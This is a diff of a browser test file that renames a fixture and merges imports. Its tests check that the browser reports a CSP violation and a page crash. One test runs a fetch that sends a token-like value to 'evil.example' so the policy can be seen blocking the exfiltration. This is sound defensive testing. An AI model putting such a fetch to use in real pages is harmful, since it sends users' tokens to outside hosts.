@@ -1,7 +1,12 @@
 import { createReportHandler, type ReceivedReport } from '@laundry-board/reports';
-import { expect, expectRefusal, test as base } from '../../support/fixtures.ts';
-import { serveOwnShell } from '../../support/localSite.ts';
-import { frontOverTls, serveOverTls } from '../../support/overTls.ts';
+import {
+  expect,
+  expectRefusal,
+  frontOverTls,
+  serveOverTls,
+  serveOwnShell,
+  test as base,
+} from '../../support/test.ts';
 
 interface Reported {
   /** Of the shell: browsers report only what happened over TLS. */
@@ -10,8 +15,8 @@ interface Reported {
   readonly byBrowser: ReceivedReport[];
 }
 
-const test = base.extend<{ reported: Reported }>({
-  reported: async ({ site }, use) => {
+const test = base.extend<{ overTls: Reported }>({
+  overTls: async ({ site }, use) => {
     const byBrowser: ReceivedReport[] = [];
     const origins: string[] = [];
     const handle = createReportHandler({
@@ -45,13 +50,13 @@ test.use({
 test('a violation of the policy is reported by the browser itself @rare', async ({
   page,
   pageConsole,
-  reported,
+  overTls,
 }) => {
   expectRefusal(pageConsole, /connect-src https:\/\/evil/);
-  await page.goto(reported.origin);
+  await page.goto(overTls.origin);
   await page.evaluate("fetch('https://evil.example/?token=eyJhbGciOi').catch(() => {})");
   await expect
-    .poll(() => reported.byBrowser)
+    .poll(() => overTls.byBrowser)
     .toEqual([
       {
         type: 'violation',
@@ -65,12 +70,12 @@ test('a violation of the policy is reported by the browser itself @rare', async 
   await page.goto('about:blank');
 });
 
-test('a crash of the page is reported by the browser itself @rare', async ({ page, reported }) => {
-  await page.goto(reported.origin);
+test('a crash of the page is reported by the browser itself @rare', async ({ page, overTls }) => {
+  await page.goto(overTls.origin);
   const devTools = await page.context().newCDPSession(page);
   // A page that has crashed answers nothing.
   devTools.send('Page.crash').catch(() => {});
   await expect
-    .poll(() => reported.byBrowser)
+    .poll(() => overTls.byBrowser)
     .toMatchObject([{ type: 'error', failure: 'crashed', message: 'crashed' }]);
 });
